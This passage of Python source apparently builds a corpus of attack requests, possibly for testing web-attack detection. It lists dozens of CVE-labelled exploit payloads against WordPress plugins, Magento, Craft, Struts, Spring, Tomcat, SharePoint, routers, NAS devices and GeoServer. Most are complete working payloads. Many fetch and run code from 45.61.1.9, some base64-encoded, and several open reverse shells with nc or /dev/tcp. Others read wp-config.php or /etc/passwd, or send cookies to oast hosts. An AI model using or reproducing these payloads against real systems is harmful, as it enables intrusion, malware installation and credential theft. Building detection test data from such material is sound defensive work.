    ("sqli", "LayerSlider CVE-2024-2879 ls_get_popup_markup id[where] time-based SQLi", "path", "",
     "/wp-admin/admin-ajax.php?action=ls_get_popup_markup&id[where]=1)and (SELECT 6416 FROM (SELECT(SLEEP(5)))nEiK)-- vqlq"),
    ("sqli", "Ultimate Member CVE-2024-1071 sorting parameter SQLi", "raw", "",
     _raw("POST /wp-admin/admin-ajax.php HTTP/1.1", "blog.example.com", ("User-Agent: " + _UA, _FORM, "X-Requested-With: XMLHttpRequest"),
          "action=um_get_members&nonce=6b2f3e1a9c&directory_id=b9238&sorting=user_login%2CSLEEP(5)")),
    ("xss", "LiteSpeed Cache CVE-2024-47374 X-LSCACHE-VARY-VALUE stored XSS", "header:X-LSCACHE-VARY-VALUE",
     "X-LSCACHE-VARY-VALUE", '"><script>fetch("//x4.oast.site/c?"+document.cookie)</script>'),
    ("ssti", "WPML CVE-2024-6386 Twig SSTI in language switcher shortcode", "form", "content",
     "[wpml_language_switcher]{% set cmd = 'id' %}{{ [cmd]|map('system')|join }}[/wpml_language_switcher]"),
    ("php", "GiveWP CVE-2024-5932 PHP object injection in give_title", "raw", "",
     _raw("POST /wp-admin/admin-ajax.php HTTP/1.1", "donate.example.com", ("User-Agent: " + _PY, _FORM),
          'give-form-id=7&give-form-hash=a6f3b2c1d0&give-price-id=0&give-amount=%2410.00&give_first=x&give_last=y&give_email=x%40y.com&'
          'give_title=O:19:"Stripe\\\\StripeObject":1:{s:10:"\\0*\\0_values";a:1:{s:3:"foo";O:62:"Give\\\\PaymentGateways\\\\DataTransferObjects\\\\GiveInsertPaymentData":1:'
          '{s:8:"userInfo";a:1:{s:7:"address";O:4:"Give":1:{s:12:"\\0*\\0container";O:33:"Give\\\\Vendors\\\\Faker\\\\ValidGenerator":3:'
          '{s:12:"\\0*\\0validator";s:10:"shell_exec";s:12:"\\0*\\0generator";O:34:"Give\\\\Onboarding\\\\SettingsRepository":1:'
          '{s:11:"\\0*\\0settings";a:1:{s:8:"address1";s:2:"id";}}s:13:"\\0*\\0maxRetries";i:10;}}}}}}'
          '&give-gateway=offline&action=give_process_donation')),
    ("ptrav", "WordPress File Upload CVE-2024-9047 wfu_storage cookie traversal", "raw", "",
     _raw("GET /wp-content/plugins/wp-file-upload/wfu_file_downloader.php?file=pQ1DyzbQp5hBxQpW&ticket=sH8yeUF3gBlHEJ4R&handler=dboption&session_legacy=1&dboption_base=cookies&dboption_useold=0&wfu_cookie=wp_wpfileupload_939a4dc9e3d96a97c2dd1bdcbeab52ce HTTP/1.1",
          "blog.example.com", ("User-Agent: " + _PY,
                               "Cookie: wp_wpfileupload_939a4dc9e3d96a97c2dd1bdcbeab52ce=sH8yeUF3gBlHEJ4R; "
                               "wfu_storage_pQ1DyzbQp5hBxQpW=/../../../../../wp-config.php[[name]]; "
                               "wfu_download_ticket_sH8yeUF3gBlHEJ4R=1.9e12; wfu_ABSPATH=/"))),
    ("ptrav", "Kubio AI Page Builder CVE-2025-2294 template LFI", "path", "",
     "/?__kubio-site-edit-iframe-preview=1&__kubio-site-edit-iframe-classic-template=../../../../wp-config.php"),
    ("scanner", "LiteSpeed Cache CVE-2024-44000 debug log cookie leak probe", "path", "",
     "/wp-content/debug.log"),
    ("ssrf", "ChatGPT pictureproxy CVE-2024-27564 SSRF to metadata", "path", "",
     "/pictureproxy.php?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),

    # --- CMS and plugins: Drupal, Joomla, Craft, vBulletin, Magento, PrestaShop, Roundcube ---
    ("scanner", "Joomla CVE-2023-23752 public=true config disclosure", "path", "", "/api/index.php/v1/config/application?public=true"),
    ("php", "Drupalgeddon2 render array #post_render exec still sprayed by bots", "raw", "",
     _raw("POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1",
          "cms.example.com", ("User-Agent: " + _PY, _FORM),
          "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=echo+d2V0+%7C+base64+-d+%7C+sh")),
    ("php", "Craft CMS CVE-2023-41892 conditions/render FnStream object creation", "raw", "",
     _raw("POST /index.php HTTP/1.1", "craft.example.com", ("User-Agent: " + _PY, _FORM),
          'action=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition&'
          'config={"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')),
    ("php", "Craft CMS CVE-2025-32432 generate-transform session behavior injection", "raw", "",
     _raw("POST /index.php?p=admin/actions/assets/generate-transform HTTP/1.1", "craft.example.com",
          ("User-Agent: " + _PY, _JSON, "X-CSRF-Token: 3uW2e8Q8pZ"),
          '{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior",'
          '"__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}')),
    ("rfi", "Craft CMS CVE-2024-56145 register_argc_argv templatesPath to remote FTP", "path", "",
     "/index.php?--templatesPath=ftp://anonymous:@45.61.1.9:2121/"),
    ("php", "vBulletin CVE-2025-48827 replaceAdTemplate vb:if passthru", "raw", "",
     _raw("POST /ajax/api/ad/replaceAdTemplate HTTP/1.1", "forum.example.com", ("User-Agent: " + _PY, _FORM),
          "routestring=ajax%2Fapi%2Fad%2FreplaceAdTemplate&styleid=1&location=rce&"
          "template=%3Cvb%3Aif+condition%3D%27%22passthru%22%28%24_POST%5B%22cmd%22%5D%29%27%3E%3C%2Fvb%3Aif%3E&cmd=id")),
    ("xxe", "Adobe Commerce CosmicSting CVE-2024-34102 nested deserialization XXE", "raw", "",
     _raw("POST /rest/all/V1/guest-carts/test-assetnote/estimate-shipping-methods HTTP/1.1", "shop.example.com",
          ("User-Agent: " + _PY, _JSON),
          '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":'
          '"<?xml version=\\"1.0\\" ?> <!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY % sp SYSTEM \\"http://d1x9.oast.me/dtd.xml\\"> %sp; %param1; ]> <r>&exfil;</r>",'
          '"options":16}}}}}}')),
    ("ssti", "Magento CVE-2022-24086 template directive in checkout email field", "raw", "",
     _raw("PUT /rest/default/V1/guest-carts/kG7z2x9QfH3mP1sT/order HTTP/1.1", "shop.example.com", ("User-Agent: " + _UA, _JSON),
          '{"paymentMethod":{"method":"checkmo"},"email":"{{var this.getTemplateFilter().addAfterFilter(system).filter(\'curl -s 45.61.1.9/m|sh\')}}@x.com"}')),
    ("php", "Adobe Commerce SessionReaper CVE-2025-54236 session savePath nested deserialization", "raw", "",
     _raw("PUT /rest/default/V1/guest-carts/abc/order HTTP/1.1", "shop.example.com", ("User-Agent: " + _PY, _JSON,
                                                                                      "Cookie: PHPSESSID=../../../pub/media/customer_address/s/e/sess_evil"),
          '{"paymentMethod":{"paymentData":{"context":{"urlBuilder":{"session":{"sessionConfig":'
          '{"savePath":"media/customer_address/s/e"}}}}}}}')),
    ("sqli", "PrestaShop appagebuilder CVE-2023-30150 product_all_one_img SQLi", "path", "",
     "/modules/appagebuilder/apajax.php?rand=1641313272327&leoajax=1&product_all_one_img=1) UNION SELECT 1,2,3,4,5,6,7,concat(0x7e,(SELECT email FROM ps_employee LIMIT 1),0x7e),9-- -"),
    ("sqli", "PrestaShop module blind SQLi sprayed against ajax controller", "raw", "",
     _raw("GET /module/ps_facetedsearch/ajax?id_category=3%27%20AND%20(SELECT%204213%20FROM%20(SELECT(SLEEP(6)))ZTpB)--%20wjeF HTTP/1.1",
          "store.example.com", ("User-Agent: " + _UA,))),
    ("php", "Roundcube CVE-2025-49113 serialized gadget in uploaded filename", "multipart", "_file[]",
     'x|b:0;preferences_time|b:0;preferences|s:185:"a:1:{i:0;O:16:"Crypt_GPG_Engine":1:{s:26:"\x00Crypt_GPG_Engine\x00_gpgconf";s:68:"echo${IFS}Y3VybCA0NS42MS4xLjkvcnxzaA==|base64${IFS}-d|sh;#";}}";}'),
    ("xss", "Zimbra CVE-2023-37580 momoveto st parameter XSS", "path", "",
     "/m/momoveto?st=acg%22/%3E%3Cscript%20src=%22https://obsorth.opwtjnpoc.ml/pQyMSCXWyBWJpIos.js%22%3E%3C/script%3E//"),
    ("xss", "Roundcube CVE-2024-37383 SVG animate attributeName javascript href", "json", "html",
     '<svg><animate attributeName="href " values="javascript:fetch(\'//x4.oast.site/\'+document.cookie)" href="#x" /><a id="x"><text x="20" y="20">Open</text></a></svg>'),
    ("rce", "Chamilo CVE-2023-34960 wsConvertPpt SOAP file_name command injection", "raw", "",
     _raw("POST /main/webservices/additional_webservices.php HTTP/1.1", "lms.example.com", ("User-Agent: " + _PY, "Content-Type: text/xml; charset=utf-8"),
          '<?xml version="1.0" encoding="UTF-8"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:ns1="http://example.com/chamilo" xmlns:xsd="http://www.w3.org/2001/XMLSchema"><SOAP-ENV:Body><ns1:wsConvertPpt><param0>'
          '<item><key>file_data</key><value></value></item><item><key>file_name</key><value>`{}`.pptx\'|" |echo YmFzaCAtaSA+JiAvZGV2L3RjcC80NS42MS4xLjkvNDQ0NCAwPiYx|base64 -d|bash||a #</value></item>'
          '<item><key>service_ppt2lp_size</key><value>720x540</value></item></param0></ns1:wsConvertPpt></SOAP-ENV:Body></SOAP-ENV:Envelope>')),

    # --- frameworks: Next.js, Node, Spring, Struts, Tomcat, Laravel, Rails, Django ---
    ("protocol", "Next.js CVE-2025-29927 x-middleware-subrequest middleware bypass", "header:x-middleware-subrequest",
     "x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"),
    ("protocol", "Next.js CVE-2025-29927 src/middleware variant against /admin", "raw", "",
     _raw("GET /admin/users HTTP/1.1", "app.example.com",
          ("User-Agent: " + _UA, "x-middleware-subrequest: src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"))),
    ("ssrf", "Next.js CVE-2024-34351 Server Actions Host header SSRF", "raw", "",
     _raw("POST /checkout HTTP/1.1", "c7ab21.oast.fun", ("User-Agent: " + _UA, "Next-Action: 15531bfa07ff11369239544516d26edbc537ff9c",
                                                         "Origin: https://c7ab21.oast.fun", "Content-Type: text/plain;charset=UTF-8",
                                                         "Accept: text/x-component"), "[]")),
    ("generic", "React Server Components CVE-2025-55182 React2Shell Flight payload prototype chain", "raw", "",
     _raw("POST / HTTP/1.1", "app.example.com",
          ("User-Agent: " + _UA, "Next-Action: x", "Accept: text/x-component",
           "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryx8jO2oVc6SWP3Sad"),
          '------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name="0"\r\n\r\n'
          '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}",'
          '"_response":{"_prefix":"var res=process.mainModule.require(\'child_process\').execSync(\'id\').toString();'
          'throw Object.assign(new Error(\'NEXT_REDIRECT\'),{digest: `NEXT_REDIRECT;push;/login?a=${res};307;`});",'
          '"_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}\r\n'
          '------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n'
          '------WebKitFormBoundaryx8jO2oVc6SWP3Sad\r\nContent-Disposition: form-data; name="2"\r\n\r\n[]\r\n'
          '------WebKitFormBoundaryx8jO2oVc6SWP3Sad--\r\n')),
    ("protocol", "Next.js CVE-2024-46982 pages-router cache poisoning via __nextDataReq", "raw", "",
     _raw("GET /products?__nextDataReq=1 HTTP/1.1", "app.example.com", ("User-Agent: " + _UA, "x-now-route-matches: 1"))),
    ("generic", "Express EJS outputFunctionName prototype pollution RCE", "json", "",
     '{"__proto__":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load(\'child_process\').execSync(\'id\');","compileDebug":true}}'),
    ("generic", "qs prototype pollution via query brackets", "path", "", "/api/profile?__proto__[isAdmin]=true&constructor[prototype][role]=admin"),
    ("ptrav", "Spring Framework CVE-2024-38819 functional static resources traversal", "raw", "",
     _raw("GET /static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "api.example.com", ("User-Agent: " + _GO,))),
    ("ptrav", "Spring Framework CVE-2024-38816 RouterFunctions backslash traversal", "raw", "",
     _raw("GET /static/..%5c..%5c..%5c..%5c..%5cetc/passwd HTTP/1.1", "api.example.com", ("User-Agent: " + _GO,))),
    ("java", "Spring Boot Actuator env H2 CREATE ALIAS via hikari connection-test-query", "raw", "",
     _raw("POST /actuator/env HTTP/1.1", "api.example.com", ("User-Agent: " + _PY, _JSON),
          '{"name":"spring.datasource.hikari.connection-test-query","value":"CREATE ALIAS EXEC AS CONCAT(\'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new\',\' java.util.Scanner(Runtime.getRun\',\'time().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }\');CALL EXEC(\'curl http://45.61.1.9/s.sh -o /tmp/s.sh\');"}')),
    ("java", "Spring Cloud Gateway CVE-2022-22947 SpEL route filter still sprayed", "raw", "",
     _raw("POST /actuator/gateway/routes/hacktest HTTP/1.1", "gw.example.com", ("User-Agent: " + _PY, _JSON),
          '{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')),
    ("java", "Spring Cloud Function routing-expression SpEL header", "raw", "",
     _raw("POST /functionRouter HTTP/1.1", "fn.example.com",
          ("User-Agent: " + _PY, "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"bash -c {echo,Y3VybCA0NS42MS4xLjkvZnxiYXNo}|{base64,-d}|{bash,-i}\")",
           "Content-Type: text/plain"), "x")),
    ("ptrav", "Apache Struts CVE-2023-50164 upload parameter case override with traversal filename", "raw", "",
     _raw("POST /upload.action HTTP/1.1", "app.example.com",
          ("User-Agent: " + _PY, "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary5WJ61X4PRwyYKlip"),
          '------WebKitFormBoundary5WJ61X4PRwyYKlip\r\nContent-Disposition: form-data; name="Upload"; filename="1.jsp"\r\n'
          'Content-Type: text/plain\r\n\r\n<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).useDelimiter("\\\\A").next()); %>\r\n'
          '------WebKitFormBoundary5WJ61X4PRwyYKlip\r\nContent-Disposition: form-data; name="uploadFileName"\r\n\r\n../../../../webapps/ROOT/1.jsp\r\n'
          '------WebKitFormBoundary5WJ61X4PRwyYKlip--\r\n')),
    ("java", "Apache Struts CVE-2024-53677 top.UploadFileName OGNL parameter override", "raw", "",
     _raw("POST /uploads.action HTTP/1.1", "app.example.com",
          ("User-Agent: " + _PY, "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryq4c8Hd6V"),
          '------WebKitFormBoundaryq4c8Hd6V\r\nContent-Disposition: form-data; name="Upload"; filename="x.txt"\r\n'
          'Content-Type: text/plain\r\n\r\n<%@ page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>\r\n'
          '------WebKitFormBoundaryq4c8Hd6V\r\nContent-Disposition: form-data; name="top.UploadFileName"\r\n\r\n../../shell.jsp\r\n'
          '------WebKitFormBoundaryq4c8Hd6V--\r\n')),
    ("java", "Apache Struts S2-045 Content-Type OGNL still sprayed by botnets", "header:Content-Type", "Content-Type",
     "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
     "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
     ".(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))))"
     ".(#cmd='wget http://45.61.1.9/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.start())}"),
    ("java", "Apache Tomcat CVE-2025-24813 partial PUT writing serialized session", "raw", "",
     _raw("PUT /evil.session HTTP/1.1", "tomcat.example.com",
          ("User-Agent: " + _PY, "Content-Range: bytes 0-5/100", "Content-Type: application/octet-stream"), _JAVA_SER)),
    ("java", "Apache Tomcat CVE-2025-24813 session trigger via dotted JSESSIONID", "raw", "",
     _raw("GET / HTTP/1.1", "tomcat.example.com", ("User-Agent: " + _PY, "Cookie: JSESSIONID=.evil"))),
    ("php", "Laravel Ignition CVE-2021-3129 phar log wrapper still mass-scanned", "raw", "",
     _raw("POST /_ignition/execute-solution HTTP/1.1", "app.example.com", ("User-Agent: " + _PY, _JSON, "Accept: application/json"),
          '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
          '{"variableName":"username","viewFile":"phar://../storage/logs/laravel.log/test.txt"}}')),
    ("php", "Laravel CVE-2024-52301 register_argc_argv environment switch", "path", "", "/?--env=local"),
    ("php", "PHP-CGI CVE-2024-4577 soft hyphen argument injection auto_prepend php://input", "raw", "",
     _raw("POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
          "win.example.com", ("User-Agent: " + _PY, _FORM),
          "<?php system('powershell -c \"iwr http://45.61.1.9/x.exe -o C:\\\\Windows\\\\Temp\\\\x.exe\"'); ?>")),
    ("php", "PHP-CGI CVE-2024-4577 against index.php with data wrapper", "raw", "",
     _raw("GET /index.php?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3ddata://text/plain;base64,PD9waHAgZWNobyBtZDUoJ2N2ZScpOyA/Pg== HTTP/1.1",
          "xampp.example.com", ("User-Agent: " + _GO,))),
    ("ptrav", "Rails CVE-2019-5418 Accept header file disclosure still probed", "header:Accept", "Accept",
     "../../../../../../../../etc/passwd{{"),
    ("sqli", "Django CVE-2025-64459 _connector kwarg injection via filter(**request.GET)", "path", "",
     "/api/users/?username=x&_connector=OR 1=1 OR"),
    ("sqli", "Django CVE-2022-34265 Trunc kind parameter SQLi", "query", "kind",
     "year', created_at) || (SELECT password FROM auth_user WHERE is_superuser LIMIT 1) || DATE_TRUNC('year"),
    ("ptrav", "aiohttp CVE-2024-23334 follow_symlinks static traversal", "raw", "",
     _raw("GET /static/../../../../../../etc/passwd HTTP/1.1", "api.example.com", ("User-Agent: curl/8.4.0",))),
    ("java", "Apache OFBiz CVE-2024-38856 ProgramExport Groovy with requirePasswordChange bypass", "raw", "",
     _raw("POST /webtools/control/forgotPassword/ProgramExport HTTP/1.1", "erp.example.com", ("User-Agent: " + _PY, _FORM),
          "groovyProgram=throw+new+Exception('id'.execute().text);")),
    ("java", "Apache OFBiz CVE-2023-51467 unicode-escaped Groovy evading denylist", "raw", "",
     _raw("POST /webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y HTTP/1.1", "erp.example.com",
          ("User-Agent: " + _PY, _FORM),
          "groovyProgram=\\u0074\\u0068\\u0072\\u006f\\u0077\\u0020\\u006e\\u0065\\u0077\\u0020\\u0045\\u0078\\u0063\\u0065\\u0070\\u0074\\u0069\\u006f\\u006e"
          "\\u0028\\u0027\\u0069\\u0064\\u0027\\u002e\\u0065\\u0078\\u0065\\u0063\\u0075\\u0074\\u0065\\u0028\\u0029\\u002e\\u0074\\u0065\\u0078\\u0074\\u0029\\u003b")),
    ("java", "Adobe ColdFusion CVE-2023-38203 WDDX JdbcRowSetImpl JNDI deserialization", "raw", "",
     _raw("POST /CFIDE/adminapi/base.cfc?method= HTTP/1.1", "cf.example.com", ("User-Agent: " + _PY, _FORM),
          "argumentCollection=<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'>"
          "<var name='dataSourceName'><string>ldap://45.61.1.9:1389/Exploit</string></var><var name='autoCommit'><boolean value='true'/></var>"
          "</struct></data></wddxPacket>")),
    ("ptrav", "Adobe ColdFusion CVE-2023-26360 _cfclient classname traversal to password.properties", "raw", "",
     _raw("POST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash&_cfclient=true&returnFormat=wddx HTTP/1.1",
          "cf.example.com", ("User-Agent: " + _PY, _FORM),
          '_variables={"_metadata":{"classname":"\\\\..\\\\lib\\\\password.properties"},"_variables":[]}')),
    ("ptrav", "Adobe ColdFusion CVE-2024-20767 PMS logging file_name traversal", "raw", "",
     _raw("GET /pms?module=logging&file_name=../../../../../../../etc/passwd&number_of_lines=100 HTTP/1.1", "cf.example.com",
          ("User-Agent: " + _PY, "uuid: 5e8f2a10-3c1d-4f5a-9b7e-1a2b3c4d5e6f"))),
    ("generic", "SharePoint ToolShell CVE-2025-53770 ToolPane ExcelDataSet deserialization", "raw", "",
     _raw("POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx HTTP/1.1", "sp.example.com",
          ("User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0", _FORM,
           "Referer: /_layouts/SignOut.aspx"),
          "MSOTlPn_Uri=http%3A%2F%2Fsp.example.com%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP="
          "%3C%25%40+Register+Tagprefix%3D%22ScorecardClient%22+Namespace%3D%22Microsoft.PerformancePoint.Scorecards%22+"
          "Assembly%3D%22Microsoft.PerformancePoint.Scorecards.Client%2C+Version%3D16.0.0.0%2C+Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c%22+%25%3E"
          "%3Cscorecardclient%3Aexceldataset+CompressedDataTable%3D%22H4sIAAAAAAAEAO29B2AcSZYlJi9tynt%2FSvVK1%2BB0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee%2B%2B999577733ujudTif33%2F8%2FXGZkAWz2zkrayZ4hgKrIHz9%2BfB8%2FIorFrJ%22+"
          "DataTable-CaseSensitive%3Dtrue+runat%3D%22server%22%2F%3E")),
    ("ssrf", "Exchange ProxyNotShell autodiscover SSRF to PowerShell backend", "path", "",
     "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell"),
    ("ssrf", "Oracle E-Business Suite CVE-2025-61882 UiServlet return_url SSRF chain", "raw", "",
     _raw("POST /OA_HTML/configurator/UiServlet HTTP/1.1", "ebs.example.com", ("User-Agent: " + _PY, _FORM),
          "redirectFromJsp=1&getUiType=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%3Cinitialize%3E"
          "%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3Ehttp%3A%2F%2F45.61.1.9%3A7777%3C%2Fparam%3E"
          "%3Cparam+name%3D%22ui_def_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22config_effective_usage_id%22%3E0%3C%2Fparam%3E"
          "%3Cparam+name%3D%22ui_type%22%3EApplet%3C%2Fparam%3E%3C%2Finitialize%3E")),
    ("java", "WebLogic CVE-2020-14882 console MVEL ShellSession still sprayed", "path", "",
     "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('curl http://45.61.1.9/w.sh|sh');\")"),

    # --- monitoring, IoT, routers, cameras, NAS ---
    ("sqli", "Zabbix CVE-2024-42327 user.get selectRole SQLi", "json", "",
     '{"jsonrpc":"2.0","method":"user.get","params":{"selectRole":["roleid","name AND (SELECT 1 FROM (SELECT SLEEP(5))x)"],"userids":["1","2"]},'
     '"auth":"c2b1f1a5a7d5e4e2b4f1d6c3a9e8b7f0","id":1}'),
    ("scanner", "Zabbix default Admin/zabbix API login attempt", "raw", "",
     _raw("POST /api_jsonrpc.php HTTP/1.1", "zabbix.example.com", ("User-Agent: " + _PY, "Content-Type: application/json-rpc"),
          '{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"zabbix"},"id":1}')),
    ("sqli", "Grafana CVE-2024-9264 SQL expressions DuckDB read_blob file read", "raw", "",
     _raw("POST /api/ds/query?ds_type=__expr__&expression=true&requestId=Q101 HTTP/1.1", "grafana.example.com",
          ("User-Agent: " + _PY, _JSON, "Cookie: grafana_session=8f3d2e1c0b9a8f7e6d5c4b3a2f1e0d9c"),
          '{"queries":[{"datasource":{"name":"Expression","type":"__expr__","uid":"__expr__"},"expression":'
          '"SELECT content FROM read_blob(\'/etc/passwd\')","hide":false,"refId":"B","type":"sql","window":""}],"from":"1729313027261","to":"1729334627261"}')),
    ("ptrav", "Grafana CVE-2025-4123 client path traversal open redirect to attacker plugin", "path", "",
     "/public/..%2F%5cx4.oast.site%2F%3F%2F..%2F.."),
    ("ptrav", "Grafana CVE-2021-43798 plugin traversal still in scanner rotation", "raw", "",
     _raw("GET /public/plugins/alertlist/../../../../../../../../var/lib/grafana/grafana.db HTTP/1.1", "grafana.example.com",
          ("User-Agent: Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",))),
    ("rce", "Cacti CVE-2022-46169 remote_agent poller_id injection with spoofed XFF", "raw", "",
     _raw("GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`curl%20-s%2045.61.1.9/c|sh` HTTP/1.1",
          "cacti.example.com", ("User-Agent: " + _PY, "X-Forwarded-For: 127.0.0.1"))),
    ("rce", "TP-Link Archer CVE-2023-1389 locale country command injection (Mirai)", "path", "",
     "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd /tmp; rm -rf *; wget http://45.61.1.9/tplink.sh; sh tplink.sh)"),
    ("rce", "D-Link NAS CVE-2024-3273 nas_sharing backdoor account with base64 command", "path", "",
     "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=" + _b64("cd /tmp && wget http://45.61.1.9/dl && sh dl")),
    ("generic", "Zyxel NAS CVE-2024-29973 simZysh Python code injection", "raw", "",
     _raw("POST /cmd,/simZysh/register_main/setCookie HTTP/1.1", "nas.example.com", ("User-Agent: " + _PY, _FORM),
          'c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__("subprocess").check_output("id",+shell=True)%23')),
    ("rce", "Four-Faith router CVE-2024-12856 adj_time_year command injection", "raw", "",
     _raw("POST /apply.cgi HTTP/1.1", "router.example.com", ("User-Agent: " + _PY, _FORM, "Authorization: Basic YWRtaW46YWRtaW4="),
          "change_action=gozila_cgi&submit_button=system_time&action=Save&adj_time_year=2024&adj_time_month=10&"
          "adj_time_day=1&adj_time_hour=13&adj_time_min=33&adj_time_sec=4`mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.61.1.9 4444 >/tmp/f`")),
    ("rce", "ZoneMinder CVE-2023-26035 snapshot monitor_ids command injection", "raw", "",
     _raw("POST /zm/index.php HTTP/1.1", "cam.example.com", ("User-Agent: " + _PY, _FORM, "Cookie: ZMSESSID=r8t1k0v3"),
          "__csrf_magic=key%3A1a2b3c%2C1700000000&view=snapshot&action=create&monitor_ids%5B0%5D%5BId%5D=%3Bbash+-c+%27bash+-i+%3E%26+%2Fdev%2Ftcp%2F45.61.1.9%2F4444+0%3E%261%27")),
    ("java", "GeoServer CVE-2024-36401 valueReference OGC filter evaluation", "path", "",
     "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'curl -o /tmp/g http://45.61.1.9/g')"),
    ("java", "GeoServer CVE-2024-36401 POST WFS XML valueReference", "raw", "",
     _raw("POST /geoserver/wfs HTTP/1.1", "gis.example.com", ("User-Agent: " + _PY, "Content-Type: application/xml"),
          '<wfs:GetPropertyValue service="WFS" version="2.0.0" xmlns:topp="http://www.openplans.org/topp" xmlns:fes="http://www.opengis.net/fes/2.0" '
          'xmlns:wfs="http://www.opengis.net/wfs/2.0"><wfs:Query typeNames="sf:archsites"/>'
          "<wfs:valueReference>exec(java.lang.Runtime.getRuntime(),'touch /tmp/pwned')</wfs:valueReference></wfs:GetPropertyValue>")),
    ("rce", "CyberPanel CVE-2024-51567 upgrademysqlstatus statusfile injection via PUT", "raw", "",
     _raw("PUT /dataBases/upgrademysqlstatus HTTP/1.1", "panel.example.com",
          ("User-Agent: " + _PY, _JSON, "X-CSRFToken: a1b2c3", "Cookie: csrftoken=a1b2c3", "Referer: https://panel.example.com/"),
          '{"statusfile":"/dev/null; curl -s http://45.61.1.9/psaux | bash; #","csrftoken":"a1b2c3"}')),
    ("rce", "VMware Aria Operations for Networks CVE-2023-20887 Thrift createSupportBundle injection", "raw", "",
     _raw("POST /saas./resttosaasservlet HTTP/1.1", "vrni.example.com", ("User-Agent: " + _PY, "Content-Type: application/x-thrift"),
          '[1,"createSupportBundle",1,0,{"1":{"str":"1111"},"2":{"str":"`sudo bash -c \'curl http://45.61.1.9/v|bash\'`"},'
          '"3":{"str":"value3"},"4":{"lst":["str",2,"AAAA","BBBB"]}}]')),

    # --- AI/ML serving: Ray, MLflow, Gradio, ComfyUI, Ollama, Langflow, Flowise, n8n ---
